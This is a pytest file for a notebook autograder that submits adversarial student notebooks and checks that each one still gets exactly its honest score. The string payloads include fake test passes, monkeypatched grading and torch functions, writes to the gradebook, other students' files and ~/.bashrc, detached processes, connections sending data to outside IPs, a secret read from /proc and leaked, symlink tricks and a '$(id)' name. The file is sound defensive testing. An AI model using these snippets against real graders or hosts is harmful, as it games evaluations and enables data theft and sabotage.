"""Submissions that attack the grader, graded as one class: each gets exactly its honest score.

One student per attack, on assignment 01 (22 points). Each attack is planted in a notebook whose
honest score is known from the notebook's points: the solution (full marks), the release (0),
or the solution with one exercise broken (full marks minus that exercise's points). After one
grading run of the whole class, every attacker has exactly that score, the honest students after
them have full marks and untouched files, the course package, the gradebook's other rows and the
host are unchanged, and no process of theirs is left.
"""

from __future__ import annotations

import hashlib
import json
import socket
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from primer import notebooks
from primer.grader.sandbox import sandbox_problem
from tests.grading_course import (
    edited,
    export,
    make_course,
    points_of,
    release,
    run,
    solution,
    solution_cell_id,
    submit,
    total_points,
)
from tests.helpers import REPO

A = "01_parameterized_functions"
MARKER = "primer-attack-marker"
PACKAGE_FILES = sorted((REPO / "primer").rglob("*.py"))

pytestmark = pytest.mark.skipif(sandbox_problem() is not None, reason=str(sandbox_problem()))


def _digest(paths) -> str:
    h = hashlib.sha256()
    for p in paths:
        h.update(p.read_bytes())
    return h.hexdigest()


# --------------------------------------------------------------------------- the attacks

FAKE_CHECK = """
def check(*args, **kwargs):
    print("✓ passed")
import primer, primer.grading
primer.check = primer.grading.check = check
"""

PATCH_GRADING = """
import primer.grading as g
g.compare = lambda *a, **k: None
g.judge = lambda spec, seed, outcome_of: g.Result(spec.key, True, "✓")
g.evaluate = lambda spec, obj, seed=0: g.Result(spec.key, True, "✓")
g.check = lambda *a, **k: print("✓")
g.REGISTRY.clear()
"""

PATCH_TORCH = """
import torch, numpy
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
numpy.allclose = lambda *a, **k: True
"""

IPYTHON_HOOKS = """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
def _clear(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register("post_run_cell", _clear)
"""

ALWAYS_EQUAL = """
class AlwaysEqual(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = float.__hash__

class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.tensor(True) if func.__name__ in ("eq", "__eq__", "allclose", "isclose", "equal") \\
            else super().__torch_function__(func, types, args, kwargs or {})

def mse_loss(pred, target, reduction="mean"):
    return torch.zeros(pred.shape if reduction == "none" else ()).as_subclass(Agreeable)
"""

HARM_OTHERS = """
import glob, os, sqlite3
for attempt in (
    lambda: sqlite3.connect({gradebook!r}).execute("update grade set auto_score = 0"),
    lambda: open({honest!r}, "w").write("{{}}"),
    lambda: open({package!r}, "a").write("\\n# planted by a submission\\n"),
    lambda: open({outside!r}, "w").write("planted"),
    lambda: open(os.path.expanduser("~/.bashrc"), "a").write("planted"),
    lambda: [open(p, "w").write("{{}}") for p in glob.glob({submitted!r} + "/*/*/*.ipynb")],
):
    try:
        attempt()
    except Exception:
        pass
"""

DETACH = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "600", "{marker}"])
    os._exit(0)
time.sleep(0.2)
"""

NETWORK = """
import socket
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"stolen")
    except OSError:
        pass
"""

EXFILTRATE = """
import os
found = []
for path in ({secret!r}, "/proc/1/environ", "/proc/self/environ"):
    try:
        found.append(open(path, errors="replace").read())
    except OSError:
        pass
found.append(repr(dict(os.environ)))
def cross_entropy(logits, targets, ignore_index=-100, reduction="mean"):
    raise ValueError("LEAK " + " | ".join(found))
"""

SIGNAL_PROOF_LOOP = """
import signal
for sig in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
"""

FORBIDDEN_CE = """
from torch.nn.functional import cross_entropy as _saved  # saved before any check runs
def cross_entropy(logits, targets, ignore_index=-100, reduction="mean"):
    return _saved(logits, targets, ignore_index=ignore_index, reduction=reduction)
"""

SYMLINKS = """
import os, pathlib
out = pathlib.Path(os.environ.get("PRIMER_FORBIDDEN_LOG", "/nonexistent")).parent
for name in ("forbidden.log", "count_parameters.plain@hidden.pt", "summary.json.tmp"):
    try:
        (out / name).unlink(missing_ok=True)
        os.symlink({secret!r}, out / name)
    except OSError:
        pass
"""

SEGFAULT = "import ctypes\nctypes.string_at(0)"
WRONG_KIND = "class mse_loss:\n    def __init__(self, pred, target, reduction='mean'):\n        self.v = 0\n"
WRONG_MSE = "def mse_loss(pred, target, reduction='mean'):\n    return (pred - target).abs().mean()\n"


def _sabotaged_metadata(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_mse_loss_mean")
    cell.metadata["nbgrader"]["grade_id"] = "test_mse_loss_mean_renamed"
    return nb


def _claiming_passes(nb):
    """What the fake `check` printed when the learner ran the notebook: every test cell "passed"."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ passed\n")]
    return nb


def _without_cell(nb, grade_id):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != grade_id]
    return nb


def _tests_replaced(nb, source):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell.source = source
    return nb


def _with_cell_added(nb, after: str, source: str):
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return nb


def _without_solution_cells(nb):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("solution")]
    return nb


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("adversarial"), A)
    sol, rel = solution(course, A), release(course, A)
    full = total_points(sol)
    minus = lambda exercise: full - points_of(sol, exercise)  # noqa: E731
    cell = lambda exercise: solution_cell_id(sol, exercise)  # noqa: E731

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    received: list[bytes] = []

    def accept():
        listener.settimeout(1.0)
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(100) or b"(connected)")
            except OSError:
                continue
    stop = threading.Event()
    threading.Thread(target=accept, daemon=True).start()

    honest_path = course / "submitted" / "zz_honest" / A / f"{A}.ipynb"
    paths = {"gradebook": str(course / "autograder" / "gradebook.db"), "honest": str(honest_path),
             "package": str(REPO / "primer" / "grading.py"), "outside": str(course / "planted.txt"),
             "submitted": str(course / "submitted"), "secret": str(course / "autograder" / ".grading_secret"),
             "marker": MARKER, "port": listener.getsockname()[1]}
    first = "count_parameters"
    # Attacks on the host need no full solution: the release with only the first exercise solved
    # (its points are the honest score) costs a fraction of the checks.
    light = edited(rel, cell(first), next(c.source for c in sol.cells
                                          if c.metadata.get("nbgrader", {}).get("grade_id") == cell(first)))
    light_points = points_of(sol, first)
    attacks = {  # student → (notebook, its honest score)
        "a_fake_check": (_claiming_passes(edited(rel, cell(first), append=FAKE_CHECK)), 0),
        "a_patch_grading": (edited(rel, cell(first), append=PATCH_GRADING), 0),
        "a_patch_torch": (edited(rel, cell(first), append=PATCH_TORCH), 0),
        "a_ipython_hooks": (edited(rel, cell(first), append=IPYTHON_HOOKS), 0),
        "a_always_equal": (edited(sol, cell("mse_loss"), ALWAYS_EQUAL), minus("mse_loss")),
        "a_harm_others": (edited(light, cell(first), append=HARM_OTHERS.format(**paths)), light_points),
        "a_detach": (edited(light, cell(first), append=DETACH.format(**paths)), light_points),
        "a_network": (edited(light, cell(first), append=NETWORK.format(**paths)), light_points),
        # next_token_loss calls the learner's cross_entropy, so it fails with it
        "a_exfiltrate": (edited(sol, cell("cross_entropy"), EXFILTRATE.format(**paths)),
                         minus("cross_entropy") - points_of(sol, "next_token_loss")),
        "a_os_exit": (edited(sol, cell("mse_loss"), append="import os\nos._exit(3)"), minus("mse_loss")),
        "a_segfault": (edited(sol, cell(first), append=SEGFAULT), minus(first)),
        "a_signal_proof_loop": (edited(sol, cell("functional_forward"), append=SIGNAL_PROOF_LOOP),
                                minus("functional_forward")),
        "a_infinite_loop": (edited(sol, cell("next_token_loss"), "while True:\n    pass"),
                            minus("next_token_loss")),
        "a_sys_exit": (edited(sol, cell("mse_loss"), append="import sys\nsys.exit(3)"), full),
        "a_big_print": (edited(light, cell(first), append="print('x' * 100_000_000)"), light_points),
        "a_metadata": (_sabotaged_metadata(json_copy(sol)), full),
        "a_deleted_test": (_without_cell(json_copy(sol), "test_mse_loss_mean"), full),
        "a_edited_tests_release": (_tests_replaced(json_copy(rel), "pass"), 0),
        "a_edited_tests_solution": (_tests_replaced(json_copy(sol), "pass"), full),
        "a_wrong_kind": (edited(sol, cell("mse_loss"), WRONG_KIND), minus("mse_loss")),
        "a_defined_twice": (_with_cell_added(json_copy(sol), "test_mse_loss_sum_and_none", WRONG_MSE),
                            minus("mse_loss")),
        "a_no_solution_cells": (_without_solution_cells(json_copy(sol)), 0),
        "a_forbidden": (edited(sol, cell("cross_entropy"), FORBIDDEN_CE), minus("cross_entropy")),
        "a_memory": (_with_cell_added(json_copy(light), "test_mse_loss_sum_and_none",
                                      "x = torch.empty(2**33)  # 32 GB"), light_points),
        "a_symlinks": (edited(light, cell(first), append=SYMLINKS.format(**paths)), light_points),
        "name with spaces": (light, light_points),
        "semi;colon$(id)": (light, light_points),
        "dots..dots": (light, light_points),
    }
    for student, (nb, _) in attacks.items():
        submit(course, student, A, nb)
    text = (course / "solutions" / A / f"{A}.ipynb").read_text()
    submit(course, "b_broken_json", A, text[: len(text) // 2])
    submit(course, "b_renamed", A, sol, name="my copy.ipynb")
    submit(course, "zz_honest", A, sol)
    honest_before = honest_path.read_bytes()
    package_before = _digest(PACKAGE_FILES)

    run = grade_class(course, A)
    stop.set()
    listener.close()
    return {"course": course, "attacks": attacks, "scores": export(course), "run": run, "full": full,
            "honest_before": honest_before, "honest_path": honest_path, "package_before": package_before,
            "received": received}


def json_copy(nb):
    return nbformat.from_dict(json.loads(json.dumps(nb)))


def grade_class(course: Path, assignment: str):
    """The instructor's command: two sandboxed workers, then nbgrader records grades and feedback."""
    return run([sys.executable, "autograder/grade.py", assignment, "--workers", "2", "--no-progress",
                "--cell-timeout", "8"], course, timeout=1200)


def feedback_of(course: Path, student: str) -> str:
    return (course / "feedback" / student / A / f"{A}.html").read_text()


class TestAttacks:
    def test_every_attack_gets_exactly_its_honest_score(self, graded_class):
        scores, attacks = graded_class["scores"], graded_class["attacks"]
        wrong = {s: (scores.get(s), expected) for s, (_, expected) in attacks.items()
                 if scores.get(s) != expected}
        assert not wrong, (wrong, graded_class["run"].stderr[-3000:])

    def test_honest_student_after_the_attackers(self, graded_class):
        assert graded_class["scores"]["zz_honest"] == graded_class["full"]
        assert graded_class["honest_path"].read_bytes() == graded_class["honest_before"]

    def test_bad_files_score_zero_and_others_are_graded(self, graded_class):
        scores, report = graded_class["scores"], graded_class["run"].stdout
        assert scores.get("b_broken_json", 0) == 0 and scores.get("b_renamed", 0) == 0
        lines = {line.split()[0]: line for line in report.splitlines() if line.startswith("b_")}
        assert "not valid JSON" in lines["b_broken_json"] and "my copy.ipynb" in lines["b_renamed"], report
        assert graded_class["run"].returncode == 0, report

    def test_course_package_gradebook_and_host_untouched(self, graded_class):
        course = graded_class["course"]
        assert _digest(PACKAGE_FILES) == graded_class["package_before"]
        assert not (course / "planted.txt").exists()
        assert "planted" not in (Path.home() / ".bashrc").read_text(errors="replace") \
            if (Path.home() / ".bashrc").exists() else True

    def test_no_connection_reached_the_host(self, graded_class):
        assert graded_class["received"] == []

    def test_no_process_left(self, graded_class):
        left = []
        for proc in Path("/proc").iterdir():
            try:
                if MARKER in (proc / "cmdline").read_bytes().decode(errors="replace"):
                    left.append(proc.name)
            except OSError:
                continue
        assert left == []

    def test_the_secret_never_reaches_learner_code_or_feedback(self, graded_class):
        course = graded_class["course"]
        secret = (course / "autograder" / ".grading_secret").read_text().strip()
        feedback = feedback_of(course, "a_exfiltrate")
        assert "LEAK" in feedback  # the attack ran and its message is shown ...
        assert secret not in feedback  # ... without the secret
        for folder in ("autograded", "feedback", "submitted"):
            for path in (course / folder).rglob("*"):
                if path.is_file():
                    assert secret not in path.read_text(errors="replace"), path
        assert secret not in graded_class["run"].stdout + graded_class["run"].stderr

    def test_feedback_names_the_reason(self, graded_class):
        course = graded_class["course"]
        assert "should be a function" in feedback_of(course, "a_wrong_kind")
        assert "defined in 2 cells" in feedback_of(course, "a_defined_twice")
        assert "signal 11" in feedback_of(course, "a_segfault")
        assert "did not finish within" in feedback_of(course, "a_signal_proof_loop")
        assert "asks you not to use" in feedback_of(course, "a_forbidden")
        assert "used more than 4 GB of memory" in feedback_of(course, "a_memory")

    def test_a_faked_pass_is_shown_as_re_scored(self, graded_class):
        assert "Re-scored: when you ran this cell it showed passed" in feedback_of(graded_class["course"],
                                                                                  "a_fake_check")
        line = next(x for x in graded_class["run"].stdout.splitlines() if x.startswith("a_fake_check"))
        cells = len(notebooks.graded_cells(graded_class["attacks"]["a_fake_check"][0]))
        assert f"re-scored: {cells} cells" in line, line
